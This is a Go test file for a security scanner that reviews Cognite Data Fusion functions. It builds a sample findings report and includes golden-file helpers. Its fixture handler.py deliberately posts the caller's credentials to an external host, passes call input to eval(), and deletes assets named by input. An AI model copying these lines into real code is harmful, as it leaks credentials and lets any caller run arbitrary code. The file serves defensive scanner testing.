package report

import (
	"flag"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

// sampleSource is the handler.py the sample report is about.
var sampleSource = map[string][]string{
	"handler.py": {
		"import requests",
		"from cognite.client import CogniteClient",
		"",
		"",
		"def handle(client, data):",
		"    requests.post(\"https://api-eu.mixpanel.com/track\", json={\"t\": client.config.credentials})",
		"    client.assets.delete(external_id=data[\"ids\"])",
		"    ts = client.time_series.list(limit=None)",
		"    x = 1",
		"\tif data.get(\"debug\"):",
		"\t\tprint(\"ok\")",
		"    return {\"n\": len(ts)}",
		"",
		"    eval(data[\"expr\"])",
	},
}

// sampleSourceLine is a TextOptions.Source over sampleSource.
func sampleSourceLine(file string, line int) string {
	lines := sampleSource[file]
	if line < 1 || line > len(lines) {
		return ""
	}
	return lines[line-1]
}

// sampleReport is a realistic report: findings in several files and
// severities (given out of order), a metadata finding, duplicates in the
// required and egress lists, permissions.
func sampleReport() *Report {
	return &Report{
		SchemaVersion: SchemaVersion,
		Tool:          Tool{Name: "preflight", Version: "0.1.0"},
		Function:      &Function{ID: 123, ExternalID: "fn-x", Name: "x", Owner: "a@b.c", FileID: 9},
		Risk:          Risk{Level: RiskHigh, Score: 72, Summary: "Sends data to 1 external host; can delete assets"},
		Findings: []Finding{
			{
				RuleID: "PF-EGR-001", Category: NetworkEgress, Severity: High, Confidence: ConfidenceHigh,
				Title: "Request to an external host", Message: "POST to api-eu.mixpanel.com, outside CDF",
				File: "handler.py", Line: 6, Column: 5, EndLine: 6, EndColumn: 95,
				Evidence:    `requests.post("https://api-eu.mixpanel.com/track", json={"t": client.config.credentials})`,
				Remediation: "Remove the call, or add the host to network.allowed_hosts if it is expected.",
			},
			{
				RuleID: "PF-EXEC-001", Category: CodeExecution, Severity: Critical, Confidence: ConfidenceHigh,
				Title: "eval() of call input", Message: `data["expr"] reaches eval() — any caller can run arbitrary code`,
				File: "handler.py", Line: 14, Column: 5, EndLine: 14, EndColumn: 23,
				Evidence: `eval(data["expr"])`, Remediation: "Never evaluate call input; parse the values you expect.",
			},
			{
				RuleID: "PF-CDF-003", Category: DestructiveOperation, Severity: Medium, Confidence: ConfidenceMedium,
				Title: "Deletes assets named by call input", Message: "client.assets.delete with ids from data[\"ids\"]",
				File: "handler.py", Line: 7, Column: 5, EndLine: 7, EndColumn: 50,
				Evidence:     `client.assets.delete(external_id=data["ids"])`,
				Capabilities: []Capability{{ACL: "assetsAcl", Action: "WRITE"}},
			},
			{
				RuleID: "PF-CRED-001", Category: CredentialAccess, Severity: High, Confidence: ConfidenceHigh,
				Title: "Reads the caller's credentials", Message: "client.config.credentials is sent in a request body",
				File: "handler.py", Line: 6, Column: 68, EndLine: 6, EndColumn: 93,
				Evidence: `requests.post("https://api-eu.mixpanel.com/track", json={"t": client.config.credentials})`,
			},
			{
				RuleID: "PF-META-001", Category: PlaintextConfigSecret, Severity: Medium, Confidence: ConfidenceMedium,
				Title: "Secret-like value in envVars", Message: "envVars.API_TOKEN holds a secret-like value; envVars are not encrypted",
				Evidence: "API_TOKEN=sk_l…", Remediation: "Use function secrets instead of envVars.",
			},
			{
				RuleID: "PF-SUP-002", Category: SupplyChain, Severity: Low, Confidence: ConfidenceHigh,
				Title: "Unpinned requirement", Message: "requests has no version pin",
				File: "requirements.txt", Line: 1, Column: 1, EndLine: 1, EndColumn: 9, Evidence: "requests",
			},
			{
				RuleID: "PF-INC-001", Category: AnalysisIncomplete, Severity: Info, Confidence: ConfidenceHigh,
				Title: "File not fully analysed", Message: "syntax error at line 4; analysed partially",
				File: "utils.py", Line: 4,
			},
		},
		Required: []Required{
			{ACL: "timeSeriesAcl", Action: "READ", File: "handler.py", Line: 8, Call: "client.time_series.list"},
			{ACL: "assetsAcl", Action: "WRITE", File: "handler.py", Line: 7, Call: "client.assets.delete"},
			{ACL: "timeSeriesAcl", Action: "READ", File: "handler.py", Line: 8, Call: "client.time_series.list"},
		},
		Egress: []Egress{
			{Host: "api-eu.mixpanel.com", URL: "https://api-eu.mixpanel.com/track", File: "handler.py", Line: 6},
			{Host: "", URL: "https://{…}/upload", File: "utils.py", Line: 12},
			{Host: "api-eu.mixpanel.com", URL: "https://api-eu.mixpanel.com/track", File: "handler.py", Line: 6},
		},
		Permissions: &Permissions{
			Project: "acme-prod", Level: "admin", Reasons: []string{"groupsAcl:CREATE in all scopes"},
			CanCall: true, Excess: []string{"groupsAcl:CREATE", "datasetsAcl:OWNER"},
		},
		Incomplete: []Incomplete{{File: "utils.py", Reason: "syntax error at line 4; analysed partially"}},
	}
}

// golden compares got with testdata/name, rewriting it under -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update to create it)", err)
	}
	if string(got) != string(want) {
		t.Errorf("%s differs from the golden file (run with -update to accept):\n%s", name, firstDiff(string(want), string(got)))
	}
}

// firstDiff shows the first differing line of two texts.
func firstDiff(want, got string) string {
	w, g := strings.Split(want, "\n"), strings.Split(got, "\n")
	for i := 0; i < len(w) || i < len(g); i++ {
		var wl, gl string
		if i < len(w) {
			wl = w[i]
		}
		if i < len(g) {
			gl = g[i]
		}
		if wl != gl {
			return "line " + strconv.Itoa(i+1) + ":\n  want: " + wl + "\n  got:  " + gl
		}
	}
	return "(same lines; different line endings?)"
}
